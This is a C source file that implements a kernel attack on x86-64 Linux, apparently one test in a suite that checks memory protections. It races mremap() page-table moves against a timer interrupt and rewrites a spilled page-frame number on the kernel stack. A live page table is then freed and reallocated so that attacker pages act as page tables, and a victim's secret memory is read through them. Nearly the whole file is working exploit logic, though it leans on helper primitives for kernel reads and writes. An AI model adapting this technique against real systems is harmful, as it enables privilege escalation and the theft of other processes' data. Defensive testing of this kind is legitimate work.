// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what a section keeps on its stack while its gate is open. mremap() moves
 * whole tables. The process's own timer interrupts the section that links one, and its
 * handler waits for the lock of the process's signals, which is made to look held.
 * The registers of the section are put back from keyed memory, and what the compiler
 * spilled is not: the number of the table is changed there for that of another one.
 * So that one is entered as linked, and the table that is linked is entered as none.
 * It is freed as the deposit of a huge page, and is handed out for a lower level: pages
 * of the attacker's are page tables then.
 */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "deposit.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define FUNCTION	"exchange"
#define LENGTH		0x1800		/* bytes of it, at most */
#define STACK_WORDS	32		/* of it, at most */
#define FRAME_LINK	0xc0		/* whether a table is linked: in its byte */
#define MOVER_CPU	1
#define MOVED_PART	0x5e
#define MOVED_TABLES	16
#define LOWER_PART	0x59
#define LOWER_TABLES	512		/* at once: when 256 are freed CPUs forget them */
#define LOWER_TIMES	8
#define HOLE		9		/* entry of a page that is a table */
#define INTERVAL	500		/* microseconds */
#define HOLD		1500		/* likewise */
#define PATIENCE	1000		/* intervals, for the mover to answer */
#define REST		100000		/* likewise, until tables that are freed are free */
#define ENOUGH		100		/* sections that were hit: one in some 25 while the number is kept */
#define TOO_FEW		50		/* likewise, to say anything */
#define SECONDS		90		/* a busy host hits some three a second */

static struct {
	volatile bool ready, stop, stopped, look, seen;
	volatile int from, table;
	volatile unsigned long rounds;
	char text[SECRET_SIZE];
} *mover;

struct target {
	pid_t pid;
	struct task task;
	uint64_t lock, function;
	uint64_t pfn[MOVED_TABLES], frame[MOVED_TABLES];
	struct huge huge;
	uint64_t bait;			/* the page frame of its deposit: a table, not linked */
	int unlinked;			/* a table that is, in a section that was hit; or -1 */
	int held, hit, changed;
};

static char *place(int which, int table)
{
	return (char *)user_room(MOVED_PART) + (2 * which * MOVED_TABLES + table) * PUD_SIZE;
}

/* ---- the process that moves tables ---- */

static void look_and_wait(void)
{
	alarm_every(0);
	snprintf(mover->text, sizeof(mover->text), "%s",
		 place(mover->from, mover->table) + HOLE * PAGE_SIZE);
	mover->seen = true;
	for (;;)
		pause();
}

static void wait_while_stopped(void)
{
	while (mover->stop) {
		mover->stopped = true;
		if (mover->look)
			look_and_wait();
		usleep(INTERVAL);
	}
	mover->stopped = false;
}

static bool make_tables(void)
{
	int tables = MOVED_TABLES * table_entries(), i;

	if (!sparse_region((uint64_t)place(0, 0), tables, PROT_READ | PROT_WRITE))
		return false;
	for (i = 0; i < MOVED_TABLES; i++)
		*place(0, i) = 1;
	return true;
}

static void move_for_ever(void)
{
	size_t size = MOVED_TABLES * PUD_SIZE;

	stay_on_cpu(MOVER_CPU);
	heed_alarms();
	mover->stop = true;
	mover->ready = make_tables();
	wait_while_stopped();
	alarm_every(INTERVAL);
	for (; mover->ready; mover->from = !mover->from, mover->rounds++) {
		wait_while_stopped();
		if (mremap(place(mover->from, 0), size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
			   place(!mover->from, 0)) != place(!mover->from, 0))
			break;
	}
	_exit(1);
}

static bool wait_for(const volatile bool *answer)
{
	int i;

	for (i = 0; i < PATIENCE && !*answer; i++)
		usleep(INTERVAL);
	return *answer;
}

static bool start_mover(struct target *target)
{
	mover = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	target->pid = fork();
	if (!target->pid)
		move_for_ever();
	return wait_for(&mover->ready);
}

/* ---- the section ---- */

static bool is_linked(uint64_t frame)
{
	uint8_t kind = FRAME_LINK;

	kread(frame, &kind, sizeof(kind));
	return kind & FRAME_LINK;
}

static bool find_table(struct target *target, int i)
{
	struct slot slot;

	if (kwalk((uint64_t)place(0, i), LEVEL_PUD, target->pid, &slot))
		return false;
	target->pfn[i] = (slot.value & PTE_PFN_MASK) / PAGE_SIZE;
	target->frame[i] = frame_at(target->pfn[i]);
	return target->frame[i] && is_linked(target->frame[i]);
}

static bool find_target(struct target *target)
{
	int i;

	for (i = 0; i < MOVED_TABLES; i++)
		if (!find_table(target, i))
			return false;
	target->bait = (target->huge.deposit - memory_map_base()) / STRUCT_PAGE;
	target->function = ksymbol(FUNCTION);
	if (!target->function || ktask(target->pid, &target->task))
		return false;
	target->lock = find_signal_lock(&target->task);
	return target->lock;
}

/* Between its last place and the next one, so that it is about to be linked. */
static int find_unlinked(const struct target *target)
{
	int i;

	for (i = 0; i < MOVED_TABLES; i++)
		if (!is_linked(target->frame[i]))
			return i;
	return -1;
}

/* What the section has on the stack begins behind the frame. */
static void change_spilled(void *data, uint64_t at, const uint64_t *frame)
{
	struct target *target = data;
	uint64_t words[STACK_WORDS];
	int i;

	(void)frame;
	target->unlinked = has_hit_section(MOVER_CPU) ? find_unlinked(target) : -1;
	at += FRAME_WORDS * sizeof(*words);
	if (target->unlinked < 0 || kread(at, words, sizeof(words)))
		return;
	target->hit++;
	for (i = 0; i < STACK_WORDS; i++) {
		if (words[i] != target->pfn[target->unlinked])
			continue;
		kwrite64(at + i * sizeof(*words), target->bait);
		target->changed++;
		mover->stop = true;
	}
}

/* Is a table linked that is entered as one that is not? */
static bool is_entered_wrongly(const struct target *target)
{
	struct slot slot;
	int i = target->unlinked;

	return wait_for(&mover->stopped) &&
	       !kwalk((uint64_t)place(mover->from, i), LEVEL_PUD, target->pid, &slot) &&
	       (slot.value & PTE_PFN_MASK) / PAGE_SIZE == target->pfn[i] &&
	       !is_linked(target->frame[i]);
}

static bool attack_once(struct target *target)
{
	set_lock(target->lock, true);
	usleep(HOLD);
	find_frames(&target->task, target->function, LENGTH, change_spilled, target);
	set_lock(target->lock, false);
	target->held++;
	if (mover->stop && is_entered_wrongly(target))
		return true;
	mover->stop = false;
	usleep(INTERVAL);
	return false;
}

static bool change_section(struct target *target)
{
	time_t end = time(NULL) + SECONDS;

	mover->stop = false;
	while (target->hit < ENOUGH && time(NULL) < end)
		if (attack_once(target))
			return true;
	return false;
}

/* ---- the table that is linked, and may be freed ---- */

static void free_as_deposit(const struct target *target)
{
	uint64_t page = memory_map_base() + target->pfn[target->unlinked] * STRUCT_PAGE;

	close_list(page);
	kwrite64(target->huge.field, page);
	madvise((void *)target->huge.at, PMD_SIZE, MADV_DONTNEED);
}

/* A page whose table is the one that was freed, or NULL. */
static volatile char *find_lower(const struct target *target, volatile char *pages)
{
	struct slot slot;
	int i;

	for (i = 0; i < LOWER_TABLES; i++)
		if (!kwalk((uint64_t)pages + i * PMD_SIZE, LEVEL_PMD, 0, &slot) &&
		    (slot.value & PTE_PFN_MASK) / PAGE_SIZE == target->pfn[target->unlinked])
			return pages + i * PMD_SIZE;
	return NULL;
}

static volatile char *make_lower(uint64_t base)
{
	volatile char *pages = sparse_region(base, LOWER_TABLES, PROT_READ | PROT_WRITE);
	int i;

	for (i = 0; pages && i < LOWER_TABLES; i++)
		pages[i * PMD_SIZE] = 1;
	return pages;
}

/* What is freed first has CPUs forget the one table as well. */
static volatile char *have_it_handed_out(const struct target *target)
{
	uint64_t base = user_room(LOWER_PART), size = LOWER_TABLES * PMD_SIZE;
	volatile char *pages = make_lower(base), *found = NULL;
	int i;

	munmap((void *)pages, size);
	usleep(REST);
	for (i = 0; i < LOWER_TIMES && pages && !found; i++) {
		pages = make_lower(base + i * size);
		if (pages && is_linked(target->frame[target->unlinked]))
			found = find_lower(target, pages);
	}
	return found;
}

/* The first entry of the mover's table leads to this page, which is to be a table. */
static void take_secret(const struct target *target, volatile char *page)
{
	volatile uint64_t *table = (volatile uint64_t *)page;

	table[0] = 0;
	table[HOLE] = (victim_phys() & -PAGE_SIZE) | PTE_USER_RW;
	mover->table = target->unlinked;
	mover->look = true;
	wait_for(&mover->seen);
	table[HOLE] = 0;
}

/* The mover stays, for its tables are others' as well. */
static enum outcome use_table(const struct target *target)
{
	volatile char *page;

	setpgid(target->pid, target->pid);
	free_as_deposit(target);
	page = have_it_handed_out(target);
	if (!page)
		return lost("a table of the process's was entered as not linked, and not handed out again");
	take_secret(target, page);
	return judge_secret(mover->text, 0);
}

enum outcome spilled_table(void)
{
	struct target target = { .unlinked = -1 };

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	if (!start_mover(&target) || !make_huge(&target.huge) || !find_target(&target))
		return broken("no huge page, no tables, no function or no lock");
	if (change_section(&target))
		return use_table(&target);
	kill(target.pid, SIGKILL);
	if (target.hit < TOO_FEW)
		return broken("only %d sections were hit (%lu rounds, held %d times)", target.hit,
			      mover->rounds, target.held);
	return lost("%d sections were hit, %d words changed (%lu rounds, held %d times)",
		    target.hit, target.changed, mover->rounds, target.held);
}
#else
enum outcome spilled_table(void)
{
	return skipped("x86-64 only");
}
#endif
